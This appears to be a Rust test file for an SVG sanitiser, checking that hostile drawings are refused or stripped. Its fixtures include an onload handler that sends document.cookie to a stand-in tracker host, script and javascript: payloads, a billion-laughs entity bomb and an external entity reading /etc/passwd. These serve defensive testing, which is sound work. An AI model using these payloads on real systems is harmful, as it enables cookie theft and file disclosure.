//! Drawings as a careless or hostile contributor might send them: each is refused at its
//! line, or published with the harmful part gone.

use health_drawings::{Severity, clean};

const HOSTILE: &str = r###"<?xml version="1.0" encoding="UTF-8"?>
<!-- drawn by jo on /home/jo/Private/patients/ -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="64" height="32"
     onload="fetch('https://tracker.example/'+document.cookie)" inkscape:export-filename="/home/jo/x.png">
  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">/home/jo/Private</rdf:RDF></metadata>
  <script>alert(localStorage.saved)</script>
  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
  <rect width="64" height="32" fill="#e9f3ec" style="stroke:url(https://tracker.example/s)"/>
  <a xlink:href="javascript:alert(1)"><circle cx="16" cy="16" r="8"/></a>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
  <animate attributeName="href" values="javascript:alert(1)"/>
  <use href="other.svg#icon"/>
</svg>"###;

fn refusals(svg: &str) -> Vec<(usize, String)> {
    let cleaned = clean(svg.as_bytes()).expect("parses");
    cleaned.findings.into_iter().filter(|f| f.severity == Severity::Refused).map(|f| (f.line, f.message)).collect()
}

#[test]
fn every_hostile_part_is_refused_at_its_line() {
    let refused = refusals(HOSTILE);
    let lines: Vec<usize> = refused.iter().map(|(line, _)| *line).collect();
    assert_eq!(lines, vec![5, 7, 8, 9, 10, 11, 12, 13], "{refused:#?}");
    assert!(refused[0].1.contains("event handler"));
    assert!(refused[1].1.contains("script"));
    assert!(refused[2].1.contains("picture inside the drawing"));
    assert!(refused[3].1.contains("another file or site"));
    assert!(refused[6].1.contains("animation"));
}

#[test]
fn nothing_hostile_or_private_is_written_back() {
    let cleaned = clean(HOSTILE.as_bytes()).unwrap();
    assert!(!cleaned.is_publishable());
    for gone in [
        "script",
        "onload",
        "tracker",
        "javascript",
        "/home/jo",
        "inkscape",
        "metadata",
        "foreignObject",
        "animate",
        "other.svg",
        "<!--",
        "xlink",
    ] {
        assert!(!cleaned.svg.contains(gone), "{gone} in {}", cleaned.svg);
    }
    assert_eq!(
        cleaned.svg,
        r##"<svg xmlns="http://www.w3.org/2000/svg" width="64" height="32"><rect width="64" height="32" fill="#e9f3ec"/><g><circle cx="16" cy="16" r="8"/></g><use/></svg>"##
    );
    let notes: Vec<&str> =
        cleaned.findings.iter().filter(|f| f.severity == Severity::Removed).map(|f| f.message.as_str()).collect();
    assert!(notes.iter().any(|n| n.contains("metadata")), "{notes:?}");
    assert!(notes.iter().any(|n| n.contains("editor's own data")), "{notes:?}");
    assert!(notes.iter().any(|n| n.contains("comments")), "{notes:?}");
}

#[test]
fn a_clean_drawing_is_published_with_only_notes() {
    let editor = r###"<svg xmlns="http://www.w3.org/2000/svg" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" viewBox="0 0 10 10" version="1.1">
  <sodipodi:namedview pagecolor="#ffffff"/>
  <title>Spine</title>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>
  <path d="M 1,1
           L 9,9" style="fill:url(#g);-inkscape-stroke:none"/>
  <text x="1" y="9" xml:space="preserve">A <tspan font-weight="bold">&amp; B</tspan></text>
</svg>"###;
    let cleaned = clean(editor.as_bytes()).unwrap();
    assert!(cleaned.is_publishable(), "{:?}", cleaned.findings);
    assert_eq!(
        cleaned.svg,
        r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><path d="M 1,1 L 9,9" style="fill:url(#g)"/><text x="1" y="9" xml:space="preserve">A <tspan font-weight="bold">&amp; B</tspan></text></svg>"##
    );
    assert_eq!(cleaned.size, Some((10, 10)));
}

#[test]
fn entities_and_dtds_cost_nothing() {
    let laughs = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"lol\">{}]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&j;</text></svg>",
        (b'b'..=b'j')
            .map(|c| format!("<!ENTITY {} \"{}\">", c as char, format!("&{};", (c - 1) as char).repeat(10)))
            .collect::<String>()
    );
    let started = std::time::Instant::now();
    let refused = clean(laughs.as_bytes()).unwrap_err();
    assert!(started.elapsed().as_millis() < 100);
    assert_eq!(refused.severity, Severity::Refused);
    assert!(refused.message.contains("DTD"), "{}", refused.message);
    // An external entity is no better.
    let external =
        r#"<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>"#;
    assert!(clean(external.as_bytes()).unwrap_err().message.contains("DTD"));
}

#[test]
fn broken_files_are_explained_not_panicked_on() {
    let cases: [(&[u8], &str); 5] = [
        (b"\xff\xfe<svg/>", "not UTF-8"),
        (b"<svg xmlns=\"http://www.w3.org/2000/svg\"><rect></svg>", "not a well-formed"),
        (b"<html xmlns=\"http://www.w3.org/1999/xhtml\"/>", "not an SVG"),
        (b"<svg><rect/></svg>", "not an SVG"),
        (b"", "not a well-formed"),
    ];
    for (bytes, expected) in cases {
        let message = clean(bytes).unwrap_err().message;
        assert!(message.contains(expected), "{message}");
    }
    let deep = format!("<svg xmlns=\"http://www.w3.org/2000/svg\">{}{}</svg>", "<g>".repeat(5000), "</g>".repeat(5000));
    assert!(clean(deep.as_bytes()).unwrap_err().message.contains("deeper"));
}

#[test]
fn styles_keep_painting_and_lose_the_rest() {
    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://x.example/a.css); .a{fill:red}</style><rect class="a" width="1" height="1"/></svg>"#;
    let cleaned = clean(svg.as_bytes()).unwrap();
    assert!(!cleaned.is_publishable());
    assert!(cleaned.svg.contains("<style>.a{fill:red}</style>"), "{}", cleaned.svg);
    let escaped = r#"<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:u\72l(https://x.example/)" width="1" height="1"/></svg>"#;
    let cleaned = clean(escaped.as_bytes()).unwrap();
    assert!(!cleaned.svg.contains("x.example"), "{}", cleaned.svg);
}
